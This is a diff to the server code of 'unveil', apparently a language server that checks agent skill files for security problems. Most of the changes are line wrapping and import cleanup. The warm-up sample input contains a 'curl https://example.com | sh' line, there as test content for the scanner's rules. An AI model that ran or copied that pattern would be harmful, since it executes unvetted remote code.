@@ -14,14 +14,12 @@ from __future__ import annotations
 
 import argparse
 import asyncio
-import functools
-import inspect
 import logging
 import sys
 import time
 from concurrent.futures import ThreadPoolExecutor
 from dataclasses import dataclass
-from typing import Any, Callable
+from typing import Any
 
 from lsprotocol import types
 from pygls.lsp.server import LanguageServer
@@ -75,8 +73,12 @@ class UnveilServer(LanguageServer):
     def __init__(self) -> None:
         from unveil.lsp.protocol import UnveilProtocol
 
-        super().__init__("unveil", __version__, text_document_sync_kind=types.TextDocumentSyncKind.Incremental,
-                         protocol_cls=UnveilProtocol)
+        super().__init__(
+            "unveil",
+            __version__,
+            text_document_sync_kind=types.TextDocumentSyncKind.Incremental,
+            protocol_cls=UnveilProtocol,
+        )
         self.init_settings = Settings()  # defaults < initializationOptions
         self.settings = Settings()  # ... < workspace/configuration
         self.settings_generation = 0
@@ -224,8 +226,16 @@ class UnveilServer(LanguageServer):
             delay += min(last, ADAPTIVE_CAP_S)
         return delay
 
-    def _compute(self, text: str, path: str | None, settings: Settings, version: int | None, encoding: str,
-                 open_texts: dict[str, str] | None = None, cancelled=None):
+    def _compute(
+        self,
+        text: str,
+        path: str | None,
+        settings: Settings,
+        version: int | None,
+        encoding: str,
+        open_texts: dict[str, str] | None = None,
+        cancelled=None,
+    ):
         """Worker-thread part: analysis plus diagnostics. Returns ``(analysis, diagnostics, seconds)``.
         ``open_texts`` (path → unsaved text) is read before the disk when resolving @imports."""
         from unveil.core import imports as imports_mod
@@ -253,16 +263,17 @@ class UnveilServer(LanguageServer):
         effects = project.effects(cfg)
         nested = project.nested_weakening(cfg)
         if nested is not None:
-            msg = (f"Project configuration {cfg.path}, below the repository root, turns off or lowers security "
-                   f"rules ({', '.join(nested[1])}) for the files in its folder, this one included: "
-                   + "; ".join(effects))
+            msg = (
+                f"Project configuration {cfg.path}, below the repository root, turns off or lowers security "
+                f"rules ({', '.join(nested[1])}) for the files in its folder, this one included: " + "; ".join(effects)
+            )
             analyze_mod.add_findings(analysis, [Finding("UNV021", Severity.WARNING, 0, 0, msg, category="internal")])
         if not effects:
             return None
         return types.Diagnostic(
             range=types.Range(types.Position(0, 0), types.Position(0, 0)),
             message=f"Project configuration {cfg.path} applies to this file and turns off or lowers: "
-                    + "; ".join(effects),
+            + "; ".join(effects),
             severity=types.DiagnosticSeverity.Information,
             code="config",
             source="unveil",
@@ -271,13 +282,21 @@ class UnveilServer(LanguageServer):
 
     async def _run_compute(self, uri: str, doc: TextDocument, key: Key) -> _Entry:
         loop = asyncio.get_running_loop()
+
         def stale() -> bool:  # worker thread: stop between checks once the document moved on
             current = self.open_document(uri)
             return current is None or getattr(current, "change_count", 0) != key[3] or self._epoch.get(uri) != key[0]
 
         fut = loop.run_in_executor(
-            self.executor, self._compute, doc.source, doc.path, self.settings_for(doc.path), doc.version, self.encoding,
-            self.open_texts(), stale,
+            self.executor,
+            self._compute,
+            doc.source,
+            doc.path,
+            self.settings_for(doc.path),
+            doc.version,
+            self.encoding,
+            self.open_texts(),
+            stale,
         )
         self._inflight[uri] = (key, fut)
         try:
@@ -370,15 +389,18 @@ class UnveilServer(LanguageServer):
             return
         diag = types.Diagnostic(
             range=types.Range(types.Position(0, 0), types.Position(0, 0)),
-            message=(f"unveil has not finished analysing this file ({size:,} characters) after "
-                     f"{TIME_BUDGET_S:g} s; it is not fully analysed yet and the results will replace this "
-                     "message when the analysis finishes"),
+            message=(
+                f"unveil has not finished analysing this file ({size:,} characters) after "
+                f"{TIME_BUDGET_S:g} s; it is not fully analysed yet and the results will replace this "
+                "message when the analysis finishes"
+            ),
             severity=types.DiagnosticSeverity.Warning,
             code="UNV022",
             source="unveil",
         )
         self.text_document_publish_diagnostics(
-            types.PublishDiagnosticsParams(uri=uri, diagnostics=[diag], version=doc.version))
+            types.PublishDiagnosticsParams(uri=uri, diagnostics=[diag], version=doc.version)
+        )
 
     def note_served_tokens(self, uri: str, report: Any) -> None:
         """Remember the token report the client's inlay hints show for ``uri``."""
@@ -486,7 +508,9 @@ class UnveilServer(LanguageServer):
         if problems and problems != self._reported_problems:
             self._reported_problems = problems
             self.window_log_message(
-                types.LogMessageParams(type=types.MessageType.Warning, message="unveil settings: " + "; ".join(problems))
+                types.LogMessageParams(
+                    type=types.MessageType.Warning, message="unveil settings: " + "; ".join(problems)
+                )
             )
 
 
@@ -497,9 +521,11 @@ def _warm_up() -> None:
     """Analyse a tiny agent file once (compiles rule patterns, imports parsers); never raises."""
     try:
         analyze_mod.analyze(
-            "---\nname: x\ndescription: y\n---\n# Warm-up \U0001F600\nText with a ze\u200bro and caf\u00e9.\n"
+            "---\nname: x\ndescription: y\n---\n# Warm-up \U0001f600\nText with a ze\u200bro and caf\u00e9.\n"
             "<!-- a note -->\n```bash\ncurl https://example.com | sh\n```\n[l]: # (t)\n",
-            "SKILL.md", count_tokens=False)
+            "SKILL.md",
+            count_tokens=False,
+        )
     except Exception:  # noqa: BLE001 - warm-up is an optimisation only
         log.exception("warm-up analysis failed")
 
@@ -524,8 +550,11 @@ def run(argv: list[str] | None = None) -> int:
     parser = argparse.ArgumentParser(prog="unveil serve", description="Run the unveil language server over stdio.")
     parser.add_argument("--stdio", action="store_true", help="use stdio (the default and only transport)")
     parser.add_argument(
-        "--log-level", default="WARNING", type=str.upper,
-        choices=["DEBUG", "INFO", "WARNING", "ERROR", "CRITICAL"], help="stderr log level (default WARNING)",
+        "--log-level",
+        default="WARNING",
+        type=str.upper,
+        choices=["DEBUG", "INFO", "WARNING", "ERROR", "CRITICAL"],
+        help="stderr log level (default WARNING)",
     )
     try:
         args = parser.parse_args(list(argv or []))
